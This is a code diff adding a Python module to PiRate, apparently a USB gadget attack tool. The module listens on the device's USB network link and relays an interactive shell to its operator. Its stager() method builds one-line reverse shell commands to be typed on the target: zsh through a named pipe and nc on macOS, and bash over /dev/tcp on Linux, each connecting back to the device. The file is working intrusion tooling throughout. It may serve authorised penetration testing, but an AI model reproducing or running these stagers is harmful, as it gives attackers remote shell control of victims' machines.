@@ -0,0 +1,256 @@
+"""
+Network session transport for PiRate.
+
+This module provides the `NetworkSession` class, which relays stdin/stdout to
+a shell on the target over a TCP connection on the USB NCM/ECM link instead of
+the CDC-ACM serial device, and `SocketStream`, a serial-like wrapper that lets
+a connected socket drive `SerialConsole.stdio()` with the same detach, EOF,
+and done-marker handling.
+"""
+
+import socket
+from collections.abc import Callable
+from pathlib import Path
+
+from pirate.lib.config import Config
+from pirate.lib.logger import Logger
+from pirate.lib.serial_console import SerialConsole
+
+
+class SocketStream:
+    """
+    A connected socket exposing the `fileno`/`read`/`write`/`close` interface of a serial port.
+
+    `read()` returns ``b""`` (and `readinto()` 0) once the peer has closed the connection.
+    """
+
+    def __init__(self, sock: socket.socket):
+        """
+        Wrap a connected socket.
+
+        Args:
+            sock (socket.socket): Connected stream socket (TCP or Unix).
+        """
+
+        self.sock = sock
+        self.sock.setblocking(True)
+        if sock.family in (socket.AF_INET, socket.AF_INET6):
+            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+
+    def fileno(self) -> int:
+        """Return the socket's file descriptor."""
+
+        return self.sock.fileno()
+
+    def read(self, size: int = 1) -> bytes:
+        """Read up to `size` bytes; call only once the socket is readable."""
+
+        try:
+            return self.sock.recv(size)
+        except ConnectionResetError:
+            return b""
+
+    def readinto(self, buf: bytearray | memoryview) -> int:
+        """Read into `buf` and return the byte count, 0 once the peer has closed; lets the relay reuse a buffer."""
+
+        try:
+            return self.sock.recv_into(buf)
+        except ConnectionResetError:
+            return 0
+
+    def write(self, data: bytes) -> int:
+        """Send all bytes and return how many were sent."""
+
+        self.sock.sendall(data)
+        return len(data)
+
+    def close(self) -> None:
+        """Close the connection."""
+
+        self.sock.close()
+
+
+class NetworkSession:
+    """
+    Accept a reverse shell from the target on the USB network link and relay it.
+
+    The gadget's NCM/ECM function (enabled in ``gadget.sh`` via config) gives
+    the device a link-local address. A typed `stager()` connects the target's
+    shell back to that address, and `stdio()` relays it exactly like
+    `SerialConsole.stdio()`, at network rather than 115200-baud speed.
+    """
+
+    def __init__(
+        self,
+        address: str | None = None,
+        port: int | None = None,
+        interface: str | None = None,
+        on_ready: Callable[[], None] | None = None,
+    ):
+        """
+        Initialize a network session listener.
+
+        Args:
+            address (str, optional): Local address to listen on and for the target to
+                connect to. Defaults to config value.
+            port (int, optional): TCP port; 0 picks a free one. Defaults to config value.
+            interface (str, optional): Gadget network interface. Defaults to config value.
+            on_ready (Callable, optional): Callback invoked when the target's first output arrives.
+        """
+
+        self.address = address if address is not None else Config.get("network", "address", "169.254.55.1")
+        self.port = port if port is not None else Config.get("network", "port", 4444)
+        self.interface = interface if interface is not None else Config.get("network", "interface", "usb0")
+        self.on_ready = on_ready
+
+        self._server: socket.socket | None = None
+
+    def available(self) -> bool:
+        """
+        Return whether the USB network link is enabled and up.
+
+        Returns:
+            bool: True if the network function is enabled in config and its interface is up.
+        """
+
+        if not Config.get("network", "enabled", False):
+            return False
+
+        try:
+            return Path(f"/sys/class/net/{self.interface}/operstate").read_text().strip() in ("up", "unknown")
+        except OSError:
+            return False
+
+    def listen(self) -> tuple[str, int]:
+        """
+        Start listening for the target, if not already listening.
+
+        Listen before typing the stager so the target's connection is never refused.
+
+        Returns:
+            tuple[str, int]: The bound address and port.
+        """
+
+        self._listening()
+        return self.address, self.port
+
+    def _listening(self) -> socket.socket:
+        """Return the listening socket, binding it on first use."""
+
+        if self._server is None:
+            server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            try:
+                server.bind((self.address, self.port))
+                server.listen(1)
+            except OSError:
+                server.close()
+                raise
+
+            self._server = server
+            self.port = server.getsockname()[1]
+            Logger.debug(f"Listening for the target on {self.address}:{self.port}...")
+
+        return self._server
+
+    def accept(self, timeout: float | None = None) -> SocketStream | None:
+        """
+        Wait for the target to connect.
+
+        Args:
+            timeout (float, optional): Seconds to wait. None waits indefinitely.
+
+        Returns:
+            SocketStream | None: The connection, or None on timeout.
+        """
+
+        server = self._listening()
+        server.settimeout(timeout)
+        try:
+            sock, peer = server.accept()
+        except TimeoutError:
+            return None
+
+        Logger.debug(f"Target connected from {peer[0]}:{peer[1]}.")
+        return SocketStream(sock)
+
+    def close(self) -> None:
+        """Stop listening."""
+
+        server, self._server = self._server, None
+        if server is not None:
+            server.close()
+
+    def stager(self, platform: str = "macos") -> str:
+        """
+        Return a one-line command that connects an interactive shell on the target back to this session.
+
+        The command first waits until the device answers pings on the USB link.
+        The shell prints `SerialConsole.DONE_MARKER` when it exits, ending `stdio()`.
+
+        Args:
+            platform (str): Target platform, "macos" (zsh over nc) or "linux" (bash over /dev/tcp).
+                Defaults to "macos".
+
+        Returns:
+            str: Command to type on the target.
+
+        Raises:
+            ValueError: If the platform is not supported.
+        """
+
+        done = SerialConsole.DONE_MARKER.decode("ascii")
+        addr, port = self.address, self.port
+
+        # The host may still be self-assigning its link-local address; wait until the device answers
+        if platform == "macos":
+            return (
+                f"until ping -c1 -t1 {addr}>/dev/null;do :;done;"
+                f'f=$(mktemp -u);mkfifo $f;{{ zsh -i <$f 2>&1;printf "{done}\\r\\n"; }}|nc {addr} {port} >$f;rm $f'
+            )
+        if platform == "linux":
+            return (
+                f"until ping -c1 -W1 {addr}>/dev/null;do :;done;"
+                f'exec 3<>/dev/tcp/{addr}/{port};{{ bash -i <&3 2>&1;printf "{done}\\r\\n"; }} >&3'
+            )
+
+        raise ValueError(f"Unsupported platform '{platform}'. Expected one of: macos, linux.")
+
+    def stdio(
+        self,
+        timeout: float | None = None,
+        in_fd: int | None = None,
+        out_fd: int | None = None,
+        manage_tty: bool | None = True,
+        install_sigint_handler: bool | None = True,
+    ) -> bool:
+        """
+        Wait for the target, then relay stdin/stdout to it until detach/EOF/marker or disconnect.
+
+        Args:
+            timeout (float, optional): Seconds to wait for the target to connect. None waits indefinitely.
+            in_fd (int, optional): FD to read as stdin (defaults to sys.stdin).
+            out_fd (int, optional): FD to write as stdout (defaults to sys.stdout).
+            manage_tty (bool): If True, set cbreak and restore TTY on exit.
+            install_sigint_handler (bool): If True, install SIGINT forwarder.
+
+        Returns:
+            bool: True if a session ran, False if the target never connected.
+        """
+
+        stream = self.accept(timeout)
+        if stream is None:
+            return False
+
+        try:
+            SerialConsole(on_ready=self.on_ready, disable_serial=False).stdio(
+                ser=stream,
+                in_fd=in_fd,
+                out_fd=out_fd,
+                manage_tty=manage_tty,
+                install_sigint_handler=install_sigint_handler,
+            )
+        finally:
+            stream.close()
+
+        return True